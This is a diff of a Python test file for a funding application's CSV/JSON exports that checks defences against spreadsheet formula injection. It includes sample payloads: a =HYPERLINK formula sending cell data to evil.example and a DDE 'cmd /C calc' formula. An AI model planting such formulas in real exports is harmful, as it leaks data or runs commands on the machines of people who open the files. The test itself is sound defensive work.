@@ -9,7 +9,7 @@ from decimal import Decimal
 import pytest
 
 from juryfund.domain.spreadsheet import FORMULA_TRIGGERS, spreadsheet_cell
-from juryfund.web.transparency.routes import _csv_cell
+from juryfund.web.transparency.exports import _csv_cell
 
 from .conftest import Spec
 
@@ -48,7 +48,7 @@ PAYLOADS = (
         (" ", " "),
         ("Hoffest", "Hoffest"),
         ("Kiezfest = Freude", "Kiezfest = Freude"),
-        ("Fest, \"groß\"\nund bunt", "Fest, \"groß\"\nund bunt"),
+        ('Fest, "groß"\nund bunt', 'Fest, "groß"\nund bunt'),
         ("'=already quoted", "'=already quoted"),
         ("2026-03-01T17:00:00Z", "2026-03-01T17:00:00Z"),
         ("حديقة الجيران", "حديقة الجيران"),
@@ -99,8 +99,9 @@ def hostile(decide):
     specs = []
     for payload in PAYLOADS:
         specs.append(Spec(payload, requested=10000, kind="initiative", organisation=payload))
-        specs.append(Spec(f"Aktion {payload}", requested=10000, kind="person", name=payload,
-                          consent=True))
+        specs.append(
+            Spec(f"Aktion {payload}", requested=10000, kind="person", name=payload, consent=True)
+        )
     return decide(specs)
 
 
@@ -134,5 +135,5 @@ def test_json_and_api_keep_the_text_as_typed(client, area, hostile):
         assert not any(r["title"].startswith("'") for r in records)
         assert not any((r["applicant"] or "").startswith("'") for r in records)
         applicants = {r["applicant"] for r in records}
-        assert "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Details\")" in applicants
+        assert '=HYPERLINK("http://evil.example/?d="&A1,"Details")' in applicants
         assert "@SUM(1+1)*cmd|' /C calc'!A0" in applicants
